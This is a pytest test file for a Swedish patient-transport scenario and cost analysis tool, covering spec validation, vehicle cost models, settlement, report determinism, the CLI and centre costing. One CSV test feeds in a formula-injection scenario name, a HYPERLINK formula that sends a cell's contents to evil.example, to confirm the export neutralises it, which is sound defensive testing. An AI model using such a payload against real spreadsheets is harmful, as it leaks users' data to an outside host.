"""Scenario analysis: the SPEC's errors, an own vehicle's whole shift, the runner, a seed.

The runner builds its own throwaway SQLite database (whatever Samfard is configured
with), so these tests need no database fixture and run once, not per backend.
"""

from __future__ import annotations

import csv
import io
import re
import tomllib
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from samfard.costs.allocation import settle_run
from samfard.costs.contracts import Contract, VehicleType
from samfard.costs.stretches import route_km, run_facts
from samfard.errors import InputError
from samfard.geo.traveltime import GeodesicProvider
from samfard.money import times
from samfard.reports.scenarios.centre import centre_lines, load_centre, parse_centre, price
from samfard.reports.scenarios.job import file_of, run_scenario_task
from samfard.reports.scenarios.render import write_csv, write_report
from samfard.reports.scenarios.runner import PrincipalDay, ScenarioRun, run_spec
from samfard.reports.scenarios.spec import load_spec, parse_spec, with_overrides
from samfard.reports.scenarios.summary import (
    ALL,
    break_even,
    principal_lines,
    sensitivity_lines,
    spread,
)
from shift_fixtures import DAY, two_trip_route, vehicle

EXAMPLE = Path(__file__).resolve().parents[2] / "scenarios" / "own_stretcher_vn.toml"


def _example() -> dict[str, Any]:
    return tomllib.loads(EXAMPLE.read_text(encoding="utf-8"))


def test_the_example_spec_parses_into_a_baseline_and_four_own_stretcher_vehicles() -> None:
    spec = load_spec(EXAMPLE)
    baseline, own = spec.scenarios
    assert baseline.own == () and baseline.remove_procured == ()
    assert sum(o.count for o in own.own) == 4
    assert {o.county for o in own.own} == {"22"}
    assert own.remove_procured == (("22", VehicleType.STRETCHER),)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda r: r["scenarios"].pop(), "at least two [[scenarios]]"),
        (
            lambda r: r["own_costs"]["stretcher_vn"].pop("wage_kr_per_hour"),
            "missing wage_kr_per_hour",
        ),
        (lambda r: r["own_costs"]["stretcher_vn"].update(lease_kr_per_month=9000), "not both"),
        (lambda r: r["scenarios"][1]["own"][0].update(cost="nope"), "cost 'nope' is not"),
        (
            lambda r: r["scenarios"][1]["own"][0].update(vehicle_type="hearse"),
            "vehicle_type must be one of",
        ),
        (
            lambda r: r["scenarios"][1]["own"][0].update(shift=["16:00", "07:00"]),
            "end after it starts",
        ),
        (lambda r: r["scenarios"][1]["own"][0].update(county="01"), "county must be"),
        (lambda r: r["demand"].update(days=0), "days must be a whole number from 1"),
        (lambda r: r["demand"].update(growth_pct="lots"), "growth_pct must be a number"),
        (lambda r: r["demand"].update(colour="red"), "unknown key colour"),
        (lambda r: r.update(engine="magic"), "engine must be one of"),
    ],
)
def test_a_bad_spec_is_refused_with_a_message_naming_what_to_fix(change: Any, message: str) -> None:
    raw = _example()
    change(raw)
    with pytest.raises(InputError) as error:
        parse_spec(raw, EXAMPLE.parent)
    assert message in error.value.message


def test_an_unreadable_spec_names_the_file(tmp_path: Path) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text("title = ", encoding="utf-8")
    with pytest.raises(InputError) as error:
        load_spec(bad)
    assert "bad.toml is not valid TOML" in error.value.message


@pytest.mark.parametrize("path", sorted(EXAMPLE.parent.glob("*.toml")), ids=lambda p: p.name)
def test_every_example_spec_parses_with_own_vehicles_to_compare(path: Path) -> None:
    spec = load_spec(path)
    assert any(s.own for s in spec.scenarios[1:])


def test_a_cost_sheet_adds_capital_insurance_overhead_and_depot_per_operating_day() -> None:
    sheet = load_spec(EXAMPLE).scenarios[1].own[0].cost
    # 1 600 000 kr less 15 % residual over 6 years, + 30 000 + 60 000 + 36 000 kr a year,
    # over 365 days, in öre; fuel 1.1 l/10 km at 20 kr, maintenance 2.5 kr a km.
    year = Decimal(1_600_000 * 85 / 100) / 6 + 30_000 + 60_000 + 36_000
    model = sheet.fleet_cost_model(VehicleType.STRETCHER)
    assert model.fixed_per_vehicle_day == int((year * 100 / 365).to_integral_value())
    assert model.per_km == Decimal("220") + Decimal("250")
    assert model.driver_cost_per_hour == Decimal(25_000) * Decimal("1.42")
    dearer = sheet.fleet_cost_model(VehicleType.STRETCHER, fuel_factor=Decimal("1.1"))
    assert dearer.per_km == Decimal("242") + Decimal("250")


def test_an_own_vehicle_from_a_cost_sheet_costs_its_whole_shift_when_settled() -> None:
    """Two trips on a 07-16 shift priced by a SPEC's cost sheet through settlement: the
    stretches together bear the vehicle-day, nine paid hours with on-cost and every km."""
    carrier = "Region Jämtland Härjedalen egen regi"
    sheet = load_spec(EXAMPLE).scenarios[1].own[0].cost
    model = sheet.fleet_cost_model(VehicleType.WHEELCHAIR)
    contract = Contract("SHEET", carrier, date(2025, 1, 1), None, frozenset(), (model,), True)
    run, legs, bookings = two_trip_route(vehicle(carrier))
    provider = GeodesicProvider()
    stretches = run_facts(run, legs, bookings, provider, own_fleet=True, day=DAY)
    total = sum(settle_run(contract, facts).cost.total for facts in stretches)
    km = route_km(run, legs, provider)
    whole = model.fixed_per_vehicle_day + times(model.driver_cost_per_hour, 9)
    assert abs(total - (whole + times(model.per_km, km))) <= 6


def test_spread_of_three_days_has_a_t_interval_around_the_mean() -> None:
    s = spread([Decimal(10), Decimal(20), Decimal(30)])
    assert (s.low, s.mean, s.high) == (Decimal(10), Decimal(20), Decimal(30))
    assert s.ci_low is not None and s.ci_high is not None
    # stdev 10, t(2 df) 4.303: half width 10 * 4.303 / sqrt(3)
    assert abs(s.ci_high - 20 - Decimal("24.84338")) < Decimal("0.001")
    assert spread([Decimal(5)]).ci_low is None


SMALL = """
title = "liten"
[demand]
first_day = "2026-03-03"
days = 1
seed = 4
trips = 12
[own_costs.bil]
lease_kr_per_month = 15000
insurance_kr_per_year = 20000
fuel_litres_per_10km = 1
fuel_kr_per_litre = 20
wage_kr_per_hour = 250
on_cost_pct = 42
[[scenarios]]
name = "bas"
[[scenarios]]
name = "egna"
remove_procured = [{ county = "22", vehicle_type = "stretcher" }]
[[scenarios.own]]
depot = "Sundsvall"
county = "22"
vehicle_type = "stretcher"
count = 2
shift = ["07:00", "15:00"]
cost = "bil"
"""


@pytest.fixture(scope="module")
def small_runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[ScenarioRun, ScenarioRun]:
    folder = tmp_path_factory.mktemp("scenario")
    (folder / "small.toml").write_text(SMALL, encoding="utf-8")
    spec = load_spec(folder / "small.toml")
    first = run_spec(spec, tmp_path_factory.mktemp("work"))
    second = run_spec(spec, tmp_path_factory.mktemp("work"))
    return first, second


def test_the_runner_plans_and_settles_the_same_trips_under_each_scenario(
    small_runs: tuple[ScenarioRun, ScenarioRun],
) -> None:
    run, _ = small_runs
    (base,), (own,) = run.results["bas"], run.results["egna"]
    assert base.trips > 0
    served = sum(p.trips + p.unserved for p in base.principals.values())
    assert served == sum(p.trips + p.unserved for p in own.principals.values())
    lines = {(line.scenario, line.principal): line for line in principal_lines(run)}
    assert lines[("bas", ALL)].total == base.total
    assert lines[("bas", ALL)].difference is None
    difference = lines[("egna", ALL)].difference
    assert difference is not None and difference.mean == own.total - base.total


def test_two_own_vehicles_left_unused_cost_their_vehicle_days_and_whole_shifts(
    small_runs: tuple[ScenarioRun, ScenarioRun],
) -> None:
    """Twelve trips have no stretcher trip in Västernorrland, so both own stretcher
    vehicles stand unused: Region Västernorrland still pays two vehicle-days and two
    eight-hour shifts with on-cost, and nothing else changes."""
    run, _ = small_runs
    (base,), (own,) = run.results["bas"], run.results["egna"]
    assert not any(p.stretcher_trips for p in own.principals.values())
    model = run.spec.scenarios[1].own[0].cost.fleet_cost_model(VehicleType.STRETCHER)
    one = model.fixed_per_vehicle_day + times(model.driver_cost_per_hour, 8)
    before = base.principals.get("22", PrincipalDay()).unused_own
    assert own.principals["22"].unused_own - before == 2 * one
    assert own.total - base.total == 2 * one
    (estimate,) = break_even(run)
    assert estimate.fleet == 2 and estimate.size == 0


def test_the_same_spec_and_seed_give_the_same_report(
    small_runs: tuple[ScenarioRun, ScenarioRun], tmp_path: Path
) -> None:
    first, second = small_runs
    a = write_report(first, tmp_path / "a")
    b = write_report(second, tmp_path / "b")
    assert [p.name for p in a] == [p.name for p in b]
    for x, y in zip(a, b, strict=True):
        assert x.read_bytes() == y.read_bytes(), x.name
    html = (tmp_path / "a" / "scenario.html").read_text(encoding="utf-8")
    assert "<svg" in html and "Per huvudman" in html
    pdf = (tmp_path / "a" / "scenario.pdf").read_bytes()
    assert pdf.startswith(b"%PDF") and b"Per huvudman" in pdf


@pytest.mark.parametrize(
    "names", [('=HYPERLINK("http://evil.example/?x="&A1,"Klicka")', "+bas"), ("-egna", "@bas")]
)
def test_scenario_names_are_csv_text_and_a_negative_difference_stays_a_number(
    small_runs: tuple[ScenarioRun, ScenarioRun], tmp_path: Path, names: tuple[str, str]
) -> None:
    """Scenario names come from the SPEC: one a spreadsheet would read as a formula is
    written with a leading quote (samfard.spreadsheet). With the own vehicles as the
    baseline the procured fleet's difference is negative, and it stays a plain number."""
    run, _ = small_runs
    bas, egna = run.spec.scenarios
    first, second = names
    swapped = replace(
        run,
        spec=replace(run.spec, scenarios=(replace(egna, name=first), replace(bas, name=second))),
        results={first: run.results["egna"], second: run.results["bas"]},
    )
    tables = {
        path.name: list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        for path in write_csv(swapped, tmp_path)
    }
    for rows in tables.values():
        for value in (v for row in rows for v in row.values()):
            if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", value):
                assert not value.startswith(("=", "+", "-", "@")), value
    lines = {(r["scenario"], r["principal"]): r for r in tables["principals.csv"]}
    assert {s for s, _ in lines} == {"'" + first, "'" + second}
    mean = lines[("'" + second, ALL)]["diff_kr_per_day_mean"]
    assert Decimal(mean) < 0 and mean.startswith("-")
    assert {r["scenario"] for r in tables["sensitivity.csv"]} == {"'" + second}


def test_the_command_refuses_a_bad_spec_with_its_message_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from samfard.cli import main

    bad = tmp_path / "bad.toml"
    bad.write_text(SMALL.replace("count = 2", 'count = "two"'), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["scenario", str(bad), "-o", str(out)]) == 2
    assert "count must be a whole number from 1 to 50, got 'two'" in capsys.readouterr().err
    assert not out.exists()
    assert main(["scenario", str(EXAMPLE), "--days", "0", "-o", str(out)]) == 2
    assert "--days must be 1 to 60" in capsys.readouterr().err


def test_planned_rides_are_never_shorter_than_the_direct_drive(
    small_runs: tuple[ScenarioRun, ScenarioRun],
) -> None:
    """Ride time per principal: every served trip has its planned ride measured, and a
    ride (the drive plus boarding, maybe a detour) never beats the direct drive."""
    run, _ = small_runs
    (base,) = run.results["bas"]
    assert sum(p.rides for p in base.principals.values()) == base.trips
    for line in principal_lines(run):
        if line.trips:
            assert line.ride_ratio is not None and line.ride_ratio >= 1, line
            assert line.extra_ride_min is not None and line.extra_ride_min >= 0, line


def test_higher_own_vehicle_utilisation_narrows_the_difference(
    small_runs: tuple[ScenarioRun, ScenarioRun],
) -> None:
    """Two idle own vehicles: the same work at 20 % higher utilisation needs 1/1.2 of
    their rostered days, so the difference falls by a sixth of what they cost; at 20 %
    lower it rises by a quarter."""
    run, _ = small_runs
    (base,), (own,) = run.results["bas"], run.results["egna"]
    rostered = own.own_fixed + own.own_driver - base.own_fixed - base.own_driver
    assert rostered > 0
    lines = {(s.factor, s.pct): s.difference for s in sensitivity_lines(run)}
    difference = Decimal(own.total - base.total)
    assert abs(lines[("beläggning", 20)] - (difference - Decimal(rostered) / 6)) < 1
    assert abs(lines[("beläggning", -20)] - (difference + Decimal(rostered) / 4)) < 1


def test_a_joint_centre_costs_less_per_booking_than_either_region_alone() -> None:
    """The repository's centre costs: fixed costs and minimum staffing spread over the
    joint volume give a lower price per booking; staff never fall below the minimum."""
    centre = load_centre(EXAMPLE.parent / "centre" / "centre_costs.toml")
    assert centre.source
    lines = {c.name: c for c in centre_lines(centre)}
    joint = lines["En gemensam central"]
    for alone in ("Jämtland Härjedalen ensam", "Västernorrland ensam"):
        assert joint.per_booking < lines[alone].per_booking
    separate = sum(lines[a].cost_per_year for a in lines if a != joint.name)
    assert joint.cost_per_year < separate
    tiny = price(centre, "tiny", 1)
    assert tiny.fte == sum(r.min_fte for r in centre.staff)


def test_centre_costs_are_priced_from_wage_on_cost_and_volume() -> None:
    """One role of 30 000 kr a month for 12 months with 50 % on-cost (540 000 kr a FTE
    year) at 10 000 bookings a FTE, minimum one, and 100 000 kr fixed: 25 000 bookings
    need 2.5 FTE, 1 450 000 kr, 58 kr a booking."""
    centre = parse_centre(
        {
            "source": "test",
            "staff": [
                {
                    "role": "r",
                    "kr_per_month": 30000,
                    "months": 12,
                    "on_cost_pct": 50,
                    "bookings_per_fte": 10000,
                    "min_fte": 1,
                },
            ],  # fmt: skip
            "fixed": [{"item": "f", "kr_per_year": 100000}],
            "volumes": [{"name": "v", "bookings_per_year": 25000}],
        }
    )
    (line,) = centre_lines(centre)
    assert line.fte == Decimal("2.5")
    assert line.cost_per_year == 1_450_000 * 100
    assert line.per_booking == 5800
    with pytest.raises(InputError, match="missing source"):
        parse_centre({"staff": []})


def test_a_scenario_job_reports_progress_and_returns_the_report(tmp_path: Path) -> None:
    """The page's background task: progress only grows, and its result carries every
    file the command writes, the same bytes for the same seed (the PDF in base64)."""
    spec = tmp_path / "small.toml"
    spec.write_text(SMALL, encoding="utf-8")
    seen: list[tuple[float, float]] = []
    result = run_scenario_task(
        spec_path=str(spec),
        days=None,
        seed=None,
        trips=8,
        report=lambda done, message, expected, until=0.95: seen.append((done, until)),
    )
    assert seen == sorted(seen) and len(seen) >= 3
    # Each step's bar runs to where the next report starts, never past it.
    assert all(
        until <= after + 1e-9 for (_, until), (after, _) in zip(seen, seen[1:], strict=False)
    )
    assert result["title"] == "liten"
    (tmp_path / "work").mkdir()
    run = run_spec(with_overrides(load_spec(spec), trips=8), tmp_path / "work")
    written = write_report(run, tmp_path / "out")
    assert sorted(result["names"]) == sorted(p.name for p in written)
    for path in written:
        assert file_of(result, path.name) == path.read_bytes(), path.name
    assert file_of(result, "nope.csv") is None
    with pytest.raises(InputError, match="--trips must be 1 to 5000"):
        with_overrides(load_spec(spec), trips=0)
